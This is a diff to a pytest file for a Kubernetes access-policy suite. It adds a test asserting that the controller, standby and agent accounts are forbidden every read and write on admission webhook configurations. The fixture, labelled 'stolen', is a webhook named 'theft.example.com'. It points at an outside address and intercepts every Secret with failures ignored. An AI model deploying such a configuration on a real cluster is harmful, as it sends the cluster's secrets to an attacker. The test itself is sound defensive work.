@@ -12,7 +12,19 @@ from pathlib import Path
 from typing import Any, TypeVar
 
 import pytest
-from policy_cases import CLAIMS, LEADER, LEASES, MERGE, SLICES, Write, cases, slice_
+from policy_cases import (
+    APPLY,
+    CERTIFICATES,
+    CLAIMS,
+    LEADER,
+    LEASES,
+    MERGE,
+    SLICES,
+    WEBHOOKS,
+    Write,
+    cases,
+    slice_,
+)
 from policy_world import (
     FENCE,
     Accounts,
@@ -66,6 +78,53 @@ def test_every_write_gets_its_verdict(server: RealApiServer) -> None:
         ]
 
     assert run(server, scenario) == []
+
+
+@pytest.mark.parametrize("kind", ["validatingwebhookconfigurations", "mutatingwebhookconfigurations"])
+def test_no_account_reads_or_writes_webhook_configurations(server: RealApiServer, kind: str) -> None:
+    """With one it could have every Secret of the cluster sent to it; no admission policy ever sees them."""
+    path = f"{WEBHOOKS}/{kind}"
+    stolen: dict[str, Any] = {
+        "webhooks": [
+            {
+                "name": "theft.example.com",
+                "clientConfig": {"url": "https://192.0.2.1/"},
+                "admissionReviewVersions": ["v1"],
+                "sideEffects": "None",
+                "failurePolicy": "Ignore",
+                "rules": [
+                    {"apiGroups": [""], "apiVersions": ["v1"], "operations": ["*"], "resources": ["secrets"]}
+                ],
+            }
+        ]
+    }
+    applied = {"fieldManager": "dra-driver-admission", "force": "true"}
+    which = "Validating" if kind.startswith("v") else "Mutating"
+    object_: dict[str, Any] = {
+        "apiVersion": "admissionregistration.k8s.io/v1",
+        "kind": f"{which}WebhookConfiguration",
+        "metadata": {"name": CERTIFICATES},
+        **stolen,
+    }
+
+    async def scenario(made: Accounts) -> None:
+        await made.admin._call("POST", path, body={**object_, "webhooks": []})
+        try:
+            for by in ("controller", "standby", "agent"):
+                for write in (
+                    Write("reads", by, "GET", f"{path}/{CERTIFICATES}", {}),
+                    Write("lists", by, "GET", path, {}),
+                    Write("patches", by, "PATCH", f"{path}/{CERTIFICATES}", stolen, "", MERGE),
+                    Write("applies", by, "PATCH", f"{path}/{CERTIFICATES}", object_, "", APPLY, applied),
+                    Write("replaces", by, "PUT", f"{path}/{CERTIFICATES}", object_),
+                    Write("makes another", by, "POST", path, {**object_, "metadata": {"name": "x"}}),
+                    Write("deletes", by, "DELETE", f"{path}/{CERTIFICATES}", {}),
+                ):
+                    assert "is forbidden" in await made.send(write), f"{by} {write.what}"
+        finally:
+            await made.admin._call("DELETE", f"{path}/{CERTIFICATES}", body={})
+
+    run(server, scenario)
 
 
 # --- the fence ----------------------------------------------------------------------------------------------
